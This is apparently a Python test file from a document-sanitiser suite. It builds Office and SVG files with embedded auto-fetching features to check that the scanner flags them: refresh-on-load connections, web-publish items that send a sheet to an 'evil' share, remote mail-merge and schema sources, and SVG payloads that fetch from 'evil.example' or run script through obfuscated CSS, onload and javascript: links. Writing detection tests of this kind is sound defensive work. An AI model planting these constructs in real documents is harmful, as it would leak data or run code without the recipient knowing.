"""What a document or a workbook fetches by itself."""

from random import Random

from ita_core.evidence import inspect as refusals
from tests import files
from tests.attacks.attack import EXCEL, OF, OFFICE, SHEET, WORD, attack, folder_of, in_some_coding
from tests.attacks.links import FAR, ODD

YES = ("1", "true", " true ", "&#49;")


@attack("fetching", refusals.FetchesData, EXCEL)
def a_connection_that_refreshes(content: bytes, random: Random) -> bytes:
    when = random.choice([*(f'refreshOnLoad="{yes}"' for yes in YES), 'interval="5"'])
    part = (
        f'<connections {SHEET}><connection id="1" type="4" {when}><webPr url="http://evil"/></connection></connections>'
    )
    name, kind = random.choice(
        [("xl/connections.xml", OF[EXCEL] + ".connections+xml"), ("xl/a.xml", "application/xml")]
    )
    made = files.added(content, name, in_some_coding(part, random), kind)
    return files.related(made, "connections", name.removeprefix("xl/"), external=False)


@attack("fetching", refusals.FetchesData, EXCEL)
def a_query_that_refreshes(content: bytes, random: Random) -> bytes:
    part = f'<queryTable {SHEET} name="a" connectionId="1" refreshOnLoad="{random.choice(YES)}"/>'
    kind = OF[EXCEL] + ".queryTable+xml"
    return files.added(content, "xl/queryTables/queryTable1.xml", in_some_coding(part, random), kind)


@attack("fetching", refusals.FetchesData, EXCEL)
def a_pivot_table_that_asks_elsewhere(content: bytes, random: Random) -> bytes:
    part = (
        f'<x:pivotCacheDefinition {SHEET.replace("xmlns", "xmlns:x")} refreshOnLoad="{random.choice(YES)}">'
        '<x:cacheSource type="external" connectionId="1"/></x:pivotCacheDefinition>'
    )
    kind = OF[EXCEL] + ".pivotCacheDefinition+xml"
    return files.added(content, "xl/pivotCache/pivotCacheDefinition1.xml", in_some_coding(part, random), kind)


@attack("fetching", refusals.FetchesData, EXCEL)
def a_power_query(content: bytes, random: Random) -> bytes:
    part = '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>'
    return files.added(content, random.choice(["customXml/item1.xml", "xl/a.xml"]), in_some_coding(part, random))


@attack("fetching", refusals.FetchesData, EXCEL)
def a_sheet_that_publishes_itself(content: bytes, random: Random) -> bytes:
    item = '<webPublishItems count="1"><webPublishItem id="1" divId="a" sourceType="sheet" destinationFile="\\\\evil\\a" autoRepublish="1"/></webPublishItems></worksheet>'  # noqa: E501
    return files.changed(content, "xl/worksheets/sheet1.xml", "</worksheet>", item)


@attack("fetching", refusals.FetchesData, EXCEL)
def a_workbook_that_publishes_itself(content: bytes, random: Random) -> bytes:
    item = '<webPublishObjects count="1"><webPublishObject id="1" divId="a" destinationFile="\\\\evil\\a" autoRepublish="1"/></webPublishObjects></workbook>'  # noqa: E501
    return files.changed(content, "xl/workbook.xml", "</workbook>", item)


@attack("fetching", refusals.FetchesData, EXCEL)
def data_of_a_linked_kind(content: bytes, random: Random) -> bytes:
    if random.random() < 0.5:
        kind = "application/vnd.ms-excel.rdrichvaluewebimage+xml"
        return files.added(content, "xl/richData/rdRichValueWebImage.xml", b"<webImagesSrd/>", kind)
    kind = random.choice(["_linkedentity2", "_linkedentitycore", "_webimage"])
    part = f'<rvStructures><s t="{kind}"><k n="a" t="s"/></s></rvStructures>'
    name = "xl/richData/rdrichvaluestructure.xml"
    return files.added(content, name, part.encode(), "application/vnd.ms-excel.rdrichvaluestructure+xml")


@attack("fetching", refusals.LinkedContent, WORD)
def a_mail_merge(content: bytes, random: Random) -> bytes:
    said = random.choice(
        ['<w:connectString w:val="Provider=x;Data Source=//evil/a"/>', '<w:udl w:val="//evil/a.udl"/>']
    )
    made = files.parts(content)
    name = next(name for name in made if name.endswith("word/settings.xml"))
    settings = made[name].replace(b"</w:settings>", f"<w:mailMerge>{said}</w:mailMerge></w:settings>".encode())
    return files.packed({**made, name: settings})


@attack("fetching", refusals.LinkedContent, WORD)
def a_schema_from_elsewhere(content: bytes, random: Random) -> bytes:
    library = f'<sl:schemaLibrary xmlns:sl="http://schemas.openxmlformats.org/schemaLibrary/2006/main"><sl:schema sl:uri="a" sl:{random.choice(["manifestLocation", "schemaLocation"])}="http://evil.example/a"/></sl:schemaLibrary></w:settings>'  # noqa: E501
    return files.changed(content, "word/settings.xml", "</w:settings>", library)


@attack("fetching", refusals.LinkedContent, WORD, EXCEL)
def a_drawing_of_vml_filled_from_elsewhere(content: bytes, random: Random) -> bytes:
    _suffix, folder = folder_of(content)
    kind = random.choice(["imagedata", "fill"])
    drawing = f'<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape><v:{kind} src="{random.choice(FAR)}"/><br></v:shape></xml>'  # noqa: E501
    return files.added(content, f"{folder}/drawings/vmlDrawing1.vml", drawing.encode())


@attack("fetching", refusals.LinkedContent, WORD)
def a_film_played_by_a_web_page(content: bytes, random: Random) -> bytes:
    film = '<w:p><wp15:webVideoPr xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" embeddedHtml="&lt;iframe src=&quot;http://evil.example&quot;&gt;"/></w:p><w:sectPr'  # noqa: E501
    return files.changed(content, "word/document.xml", "<w:sectPr", film)


FETCHED_BY_SVG = ('<image xlink:href="http://evil.example/a.png"/>', '<use href="//evil/a.svg#a"/>',
                  "<style>@import 'a.css';</style>", '<rect fill="url( http://evil.example/a#b)"/>',
                  "<style>rect {{ fill: <!-- -->url(\"\\\\evil\\a\") }}</style>",
                  '<g xml:base="http://evil.example/"><image href="a.png"/></g>',
                  "<rect style='fill: image-set(\"http://evil.example/a.png\" 1x)'/>",
                  "<style>rect {{ fill: u\\72l(http://evil.example/a) }}</style>",
                  "<style>@\\69mport 'http://evil.example/a.css';</style>")  # fmt: skip
DONE_BY_SVG = ("<script>alert(1)</script>", '<rect onload="alert(1)"/>', "<foreignObject/>",
               '<a href="#"><set attributeName="href" to="javascript:alert(1)"/></a>')  # fmt: skip


def with_svg(content: bytes, inside: str) -> bytes:
    _suffix, folder = folder_of(content)
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{inside}</svg>'
    return files.added(content, f"{folder}/media/image9.svg", svg.encode(), "image/svg+xml")


@attack("fetching", refusals.LinkedContent, *OFFICE)
def a_drawing_that_fetches(content: bytes, random: Random) -> bytes:
    return with_svg(content, random.choice(FETCHED_BY_SVG))


@attack("embedded", refusals.Embedded, *OFFICE)
def a_drawing_that_acts(content: bytes, random: Random) -> bytes:
    return with_svg(content, random.choice(DONE_BY_SVG))


@attack("links", refusals.OddLink, *OFFICE)
def a_drawing_whose_link_acts(content: bytes, random: Random) -> bytes:
    return with_svg(content, f'<a xlink:href="{random.choice(ODD)}"/>')
